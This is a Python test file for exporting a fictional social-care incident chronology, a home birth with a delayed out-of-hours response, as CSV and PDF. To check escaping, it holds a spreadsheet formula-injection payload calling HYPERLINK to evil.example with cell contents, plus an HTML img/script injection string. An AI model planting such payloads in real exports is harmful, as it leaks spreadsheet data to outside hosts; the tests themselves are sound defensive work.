"""A chronology as CSV (a reviewer's spreadsheet) and as a PDF document (the review panel's), built here by
hand from the shapes so the writing is tested apart from how a chronology is gathered."""

import csv
import datetime
import io
import subprocess

import pytest

from ooh.records.documents import CSV_HEADER, chronology_csv, chronology_pdf, spreadsheet_safe
from ooh.records.shapes import Chronology, Gap, Involved, Item

UTC = datetime.UTC


def at(hour, minute, day=3):
    """A moment of the night of 3-4 March 2026 (GMT: local time is UTC)."""
    return datetime.datetime(2026, 3, day, hour, minute, tzinfo=UTC)


def s1_chronology(*, pseudonymised=False, items=None, gaps=None):
    mother, baby = ("Mother", "Baby") if pseudonymised else ("Kerry Vale", "Baby Vale")
    sw = "Social worker, North council" if pseudonymised else "Dana Reid"
    items = (
        items
        if items is not None
        else [
            Item(
                at=at(9, 30, day=2),
                kind="plan.shared",
                actor=sw,
                agency="North council children's services",
                summary="Birth plan version 1 shared with Police control",
                source="plan",
                ids={"plan": "p-1"},
            ),
            Item(
                at=at(23, 50),
                kind="incident.opened",
                actor="Alice Hart",
                agency="Police control",
                summary="Police control took the call: home birth at 14 Larch Close",
                source="event",
                ids={"event": "1", "incident": "i-1"},
            ),
            Item(
                at=at(23, 52),
                kind="attendance.requested",
                actor="Alice Hart",
                agency="Police control",
                summary="Police control asked the Emergency Duty Team to attend",
                source="event",
                ids={"event": "2", "incident": "i-1"},
            ),
            Item(
                at=at(0, 39, day=4),
                kind="attendance.updated",
                actor="Omar Shah",
                agency="Emergency Duty Team",
                summary="The Emergency Duty Team cannot attend",
                source="event",
                ids={"event": "3", "incident": "i-1"},
            ),
            Item(
                at=at(0, 45, day=4),
                kind="decision_maker.appointed",
                actor="Pat Lowe",
                agency="Police control",
                summary="Sgt Hale appointed decision maker",
                source="event",
                ids={"event": "4", "incident": "i-1"},
            ),
        ]
    )
    gaps = (
        gaps
        if gaps is not None
        else [
            Gap(
                start=at(23, 52),
                end=at(0, 39, day=4),
                minutes=47,
                summary="Police request unanswered for 47 minutes",
            )
        ]
    )
    return Chronology(
        record="incident",
        id="i-1",
        reference="Family C19" if pseudonymised else "OOH-2026-000123",
        title="Home birth at 14 Larch Close",
        opened_at=at(23, 50),
        closed_at=at(4, 10, day=4),
        generated_at=datetime.datetime(2026, 6, 1, 10, 0, tzinfo=UTC),
        pseudonymised=pseudonymised,
        people=[
            Involved(name=mother, role="mother of the baby"),
            Involved(name=baby, role="the baby, born at home"),
        ],
        staff=[
            Involved(name=sw, role="Social worker", agency="North council children's services"),
            Involved(name="Omar Shah", role="Out-of-hours social worker", agency="Emergency Duty Team"),
        ],
        items=items,
        gaps=gaps,
    )


def rows_of(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "document.pdf"
    path.write_bytes(data)
    done = subprocess.run(
        ["/usr/bin/pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
    )
    return done.stdout


# --- CSV ------------------------------------------------------------------------------------------


def test_csv_has_the_header_and_one_row_per_item_in_order():
    chronology = s1_chronology()
    data = chronology_csv(chronology)
    assert not data.startswith(b"\xef\xbb\xbf"), "no byte order mark"
    rows = rows_of(data)
    assert rows[0] == ["at", "kind", "actor", "agency", "summary", "source", "ids"] == list(CSV_HEADER)
    assert len(rows) == 1 + len(chronology.items)
    assert [r[1] for r in rows[1:]] == [i.kind for i in chronology.items]


def test_csv_round_trips_every_field_through_the_csv_module():
    chronology = s1_chronology()
    rows = rows_of(chronology_csv(chronology))
    for row, item in zip(rows[1:], chronology.items, strict=True):
        assert datetime.datetime.fromisoformat(row[0]) == item.at
        assert row[1:6] == [item.kind, item.actor, item.agency, item.summary, item.source]
        assert dict(pair.split("=", 1) for pair in row[6].split(";")) == item.ids


def test_csv_keeps_commas_quotes_newlines_and_non_ascii():
    item = Item(
        at=at(1, 0),
        kind="decision.recorded",
        actor="Siân O'Neill",
        agency=None,
        summary='Decision: "stay with mother", then review,\nat 08:00 — agreed',
        source="event",
        ids={},
    )
    rows = rows_of(chronology_csv(s1_chronology(items=[item], gaps=[])))
    assert rows[1] == [
        item.at.isoformat(),
        "decision.recorded",
        "Siân O'Neill",
        "",
        item.summary,
        "event",
        "",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    item = Item(
        at=at(1, 0),
        kind="note",
        actor=payload,
        agency=payload,
        summary=payload,
        source="event",
        ids={"x": "1"},
    )
    row = rows_of(chronology_csv(s1_chronology(items=[item], gaps=[])))[1]
    assert row[2] == row[3] == row[4] == "'" + payload


def test_ordinary_cells_are_left_alone():
    assert spreadsheet_safe("Police request unanswered") == "Police request unanswered"
    assert spreadsheet_safe("2026-03-03T23:50:00+00:00") == "2026-03-03T23:50:00+00:00"
    assert spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe("") == ""


def test_an_empty_chronology_is_the_header_alone():
    assert rows_of(chronology_csv(s1_chronology(items=[], gaps=[]))) == [list(CSV_HEADER)]


# --- PDF ------------------------------------------------------------------------------------------


def test_pdf_has_a_cover_with_the_marking_reference_and_dates(tmp_path):
    data = chronology_pdf(s1_chronology())
    assert data.startswith(b"%PDF-")
    text = pdf_text(data, tmp_path)
    cover = text.split("\f")[0]
    assert "OFFICIAL-SENSITIVE" in cover
    assert "Chronology: Home birth at 14 Larch Close" in cover
    assert "OOH-2026-000123" in cover
    assert "Tue 3 Mar 2026, 23:50" in cover  # opened
    assert "Wed 4 Mar 2026, 04:10" in cover  # closed
    assert "Mon 1 Jun 2026, 11:00" in cover  # generated, British Summer Time
    assert "Pseudonymised" not in cover
    assert all("OFFICIAL-SENSITIVE" in page for page in text.split("\f") if page.strip())


def test_pdf_names_the_people_and_staff(tmp_path):
    text = pdf_text(chronology_pdf(s1_chronology()), tmp_path)
    assert "People involved" in text
    for name in ("Kerry Vale", "Baby Vale", "Dana Reid", "Omar Shah", "Emergency Duty Team"):
        assert name in text


def test_pdf_timeline_has_the_moments_in_order_under_day_headings(tmp_path):
    text = pdf_text(chronology_pdf(s1_chronology()), tmp_path)
    timeline = text[text.index("Timeline") :]
    moments = [
        "Monday 2 March 2026",
        "Birth plan version 1 shared",
        "Tuesday 3 March 2026",
        "Police control took the call",
        "asked the Emergency Duty Team to attend",
        "GAP: Police request unanswered for 47 minutes",
        "Wednesday 4 March 2026",
        "The Emergency Duty Team cannot attend",
        "Sgt Hale appointed decision maker",
    ]
    positions = [timeline.index(m) for m in moments]
    assert positions == sorted(positions)


def test_pdf_lists_the_gaps(tmp_path):
    text = pdf_text(chronology_pdf(s1_chronology()), tmp_path)
    gaps = " ".join(text[text.rindex("Gaps") :].split())
    assert "Police request unanswered for 47 minutes" in gaps
    assert "from Tue 3 Mar 2026, 23:52 to Wed 4 Mar 2026, 00:39 (47 minutes)" in gaps


def test_pdf_marks_a_pseudonymised_chronology_on_its_cover(tmp_path):
    text = pdf_text(chronology_pdf(s1_chronology(pseudonymised=True)), tmp_path)
    cover = text.split("\f")[0]
    assert "Pseudonymised" in cover
    assert "Family C19" in cover
    assert "Kerry" not in text
    assert "Dana Reid" not in text
    assert "Mother" in text
    assert "Social worker, North council" in text


def test_pdf_writes_times_in_local_summer_time(tmp_path):
    summer = Item(
        at=datetime.datetime(2026, 7, 1, 23, 30, tzinfo=UTC),
        kind="incident.opened",
        actor=None,
        agency=None,
        summary="Summer call",
        source="event",
    )
    text = pdf_text(chronology_pdf(s1_chronology(items=[summer], gaps=[])), tmp_path)
    timeline = text[text.index("Timeline") :]
    assert "Thursday 2 July 2026" in timeline  # 00:30 the next day in London
    assert "00:30" in timeline


def test_pdf_of_a_record_with_no_gaps_says_so(tmp_path):
    text = pdf_text(chronology_pdf(s1_chronology(gaps=[])), tmp_path)
    assert "No request or wait went unanswered" in text


def test_pdf_escapes_markup_in_the_record(tmp_path):
    item = Item(
        at=at(1, 0),
        kind="note",
        actor="<b>Mallory</b>",
        agency=None,
        summary='<img src="http://evil.example/x.png"> said <script>',
        source="event",
    )
    text = pdf_text(chronology_pdf(s1_chronology(items=[item], gaps=[])), tmp_path)
    assert "<b>Mallory</b>" in text
    assert '<img src="http://evil.example/x.png"> said <script>' in text


def test_pdf_says_a_gap_still_open_is_open(tmp_path):
    gap = Gap(start=at(23, 52), end=None, minutes=130, summary="Police request unanswered for 130 minutes")
    text = " ".join(pdf_text(chronology_pdf(s1_chronology(gaps=[gap])), tmp_path).split())
    assert "from Tue 3 Mar 2026, 23:52 and still open when this was made (130 minutes)" in text
